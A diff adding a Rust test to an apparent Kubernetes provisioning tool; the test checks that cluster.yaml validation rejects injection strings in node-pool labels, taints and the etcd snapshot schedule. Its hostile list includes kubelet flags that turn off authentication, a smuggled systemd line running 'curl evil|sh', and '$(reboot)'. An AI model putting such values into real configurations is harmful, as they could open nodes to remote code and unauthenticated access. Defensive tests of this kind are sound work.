@@ -1365,3 +1365,91 @@ fn the_cloud_controller_cannot_mint_tokens_and_the_bootstrap_token_expires_unles
     assert!(controller.contains("OnCalendar=daily"), "the renewal timer");
     assert!(controller.contains("ExecStart=/opt/bin/apply-bootstrap-token"));
 }
+
+/// Hostile strings in every field that reaches a unit's command line are refused at that
+/// field; accepted ones (Kubernetes' full syntax) leave the kubelet's argv as it was, with the
+/// value inside its own argument.
+#[test]
+fn nothing_from_cluster_yaml_changes_the_kubelets_argv() {
+    let hostile = [
+        "x --anonymous-auth=true --authorization-mode=AlwaysAllow",
+        "x\nExecStartPre=/bin/sh -c \"curl evil|sh\"",
+        "$(reboot)",
+        "${NODE_NAME}",
+        "%h",
+        "a;b",
+        "a\"b",
+        "a'b",
+        "a\\b",
+        "a,b=c",
+        "a b",
+        "-lead",
+    ];
+    let pool = |labels: &str, taints: &str| {
+        format!("nodePools:\n  - name: p\n    labels: {labels}\n    taints: {taints}\n")
+    };
+    for value in hostile {
+        let quoted = serde_json::to_string(value).unwrap();
+        for (extra, field) in [
+            (
+                pool(&format!("{{team: {quoted}}}"), "[]"),
+                "nodePools[0].labels.team".to_string(),
+            ),
+            (
+                pool(&format!("{{{quoted}: a}}"), "[]"),
+                format!("nodePools[0].labels.{value}"),
+            ),
+            (
+                pool(
+                    "{}",
+                    &format!("[{{key: k, value: {quoted}, effect: NoSchedule}}]"),
+                ),
+                "nodePools[0].taints[0].value".to_string(),
+            ),
+            (
+                pool("{}", &format!("[{{key: {quoted}, effect: NoSchedule}}]")),
+                "nodePools[0].taints[0].key".to_string(),
+            ),
+            (
+                format!("etcdSnapshotSchedule: {quoted}\n"),
+                "etcdSnapshotSchedule".to_string(),
+            ),
+        ] {
+            let text = format!(
+                "clusterName: demo\nexternalDNSName: k8s.example.com\nregion: us-west-2\navailabilityZone: us-west-2a\nkmsKeyArn: arn:aws:kms:us-west-2:1:key/x\ntemplateBucket: demo-artifacts\n{extra}"
+            );
+            let err = ClusterConfig::parse(Path::new("cluster.yaml"), &text)
+                .expect_err(&format!("{value:?} accepted in {field}"));
+            assert!(
+                err.problems
+                    .iter()
+                    .any(|p| p.field == field && p.line.is_some()),
+                "{value:?} in {field}: {err}"
+            );
+        }
+    }
+    // Accepted values: the kubelet's argv keeps its words, the values inside theirs.
+    let plain = render_with(&config(&pool("{team: a}", "[]")), &Templates::built_in()).unwrap();
+    let tricky = render_with(
+        &config(&pool(
+            "{example.com/team: A.b-c_9, tier: \"\"}",
+            "[{key: example.com/dedicated, value: x_y.z-1, effect: NoExecute}]",
+        )),
+        &Templates::built_in(),
+    )
+    .unwrap();
+    let argv = |r: &Rendered| -> Vec<String> {
+        kubelet_command(&r.cloud_configs["cloud-config-worker-p"])
+            .split_whitespace()
+            .map(|w| w.split('=').next().unwrap().to_string())
+            .collect()
+    };
+    let tricky_argv = argv(&tricky);
+    assert_eq!(tricky_argv.len(), argv(&plain).len() + 1, "{tricky_argv:?}");
+    let command = kubelet_command(&tricky.cloud_configs["cloud-config-worker-p"]);
+    assert!(
+        command.contains("example.com/team=A.b-c_9,")
+            && command.contains("--register-with-taints=example.com/dedicated=x_y.z-1:NoExecute"),
+        "{command}"
+    );
+}
